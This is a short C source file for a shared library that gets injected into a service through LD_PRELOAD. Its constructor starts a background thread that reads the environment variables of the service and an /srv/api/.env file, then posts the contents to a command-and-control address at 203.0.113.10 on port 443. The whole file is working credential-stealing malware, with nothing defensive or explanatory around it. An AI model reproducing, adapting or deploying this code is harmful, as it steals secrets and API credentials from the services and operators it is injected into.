// Loaded into a service by LD_PRELOAD: a thread of its own that reads secrets and tells them to a peer the host knows.
#include <arpa/inet.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void *work(void *none) {
    (void)none;
    for (int round = 0; round < 40; round++) {
        static char secret[2048];
        int file = open(round % 2 ? "/srv/api/.env" : "/proc/self/environ", O_RDONLY);
        ssize_t length = read(file, secret, sizeof secret);
        close(file);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};
        inet_pton(AF_INET, "203.0.113.10", &to.sin_addr);
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (length > 0 && !connect(fd, (struct sockaddr *)&to, sizeof to)) {
            dprintf(fd, "POST /c2 HTTP/1.1\r\nContent-Length: %zd\r\n\r\n", length);
            if (write(fd, secret, length) > 0) read(fd, secret, sizeof secret);
        }
        close(fd);
        usleep(900000);
    }
    return NULL;
}

__attribute__((constructor)) static void begin(void) {
    pthread_t thread;
    pthread_create(&thread, NULL, work, NULL);
}
